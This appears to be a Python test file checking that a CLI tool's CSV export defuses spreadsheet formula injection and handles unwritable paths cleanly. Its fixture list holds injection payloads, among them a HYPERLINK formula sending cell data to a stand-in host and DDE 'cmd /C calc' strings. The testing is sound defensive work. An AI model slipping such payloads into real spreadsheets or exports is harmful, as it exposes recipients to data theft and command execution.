"""``halosync reconcile --csv FILE``: formula injection defused, the file written safely.

Vendor names and references are data from outside; a spreadsheet must never run one as a
formula. The file lands exactly where the operator said, whole or not at all, and a path
that cannot be written is a clear error (never a traceback, never a half-written file).
"""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from halosync.domain.reconcile import csv_safe
from tests.e2e.cli import Cli, cli_against_simulator, write_usage_csv
from tests.sync.world import seed

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NASTY_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@settings(max_examples=200)
@given(st.text())
def test_no_cell_starts_like_a_formula(value: str) -> None:
    cell = csv_safe(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (value, "'" + value)


def _world(cli: Cli, tmp_path: Path) -> None:
    cli.connect()
    rows = [
        {
            "account_ref": f"A{n}",
            "account_name": name.replace('"', "'").replace(",", " "),
            "service_ref": "MAIL",
            "service_name": "-Mail Protection",
            "quantity": n,
        }
        for n, name in enumerate(NASTY_NAMES, start=1)
    ]
    cli("import", str(write_usage_csv(tmp_path / "usage.csv", rows)))
    cli("sync", "customers")
    for n in range(1, len(NASTY_NAMES) + 1):
        cli("map", "account", f"A{n}", str(n))
    cli("map", "service", "MAIL", "1")
    cli("sync", "usage")


def test_reconcile_csv_defuses_formulas_and_fails_cleanly_on_bad_paths(tmp_path: Path) -> None:
    with cli_against_simulator(tmp_path, seed(len(NASTY_NAMES))) as cli:
        _world(cli, tmp_path)
        target = tmp_path / "out" / "report.csv"
        target.parent.mkdir()
        cli("reconcile", "--csv", str(target))
        with target.open(newline="", encoding="utf-8") as handle:
            table = list(csv.reader(handle))
        assert len(table) == 1 + len(NASTY_NAMES)
        cells = [cell for row in table for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        names = {row[table[0].index("account_name")] for row in table[1:]}
        assert "'=1+1" in names
        assert "'-Mail Protection" in {row[table[0].index("service_name")] for row in table[1:]}
        good = target.read_bytes()

        for bad in (tmp_path / "out", tmp_path / "missing" / "report.csv"):
            refused = cli("reconcile", "--csv", str(bad), check=False)
            assert refused.returncode == 1, refused.stderr
            assert "Traceback" not in refused.stderr, refused.stderr
            assert str(bad) in refused.stderr
        assert not (tmp_path / "missing").exists()

        assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["report.csv"]
        assert target.read_bytes() == good
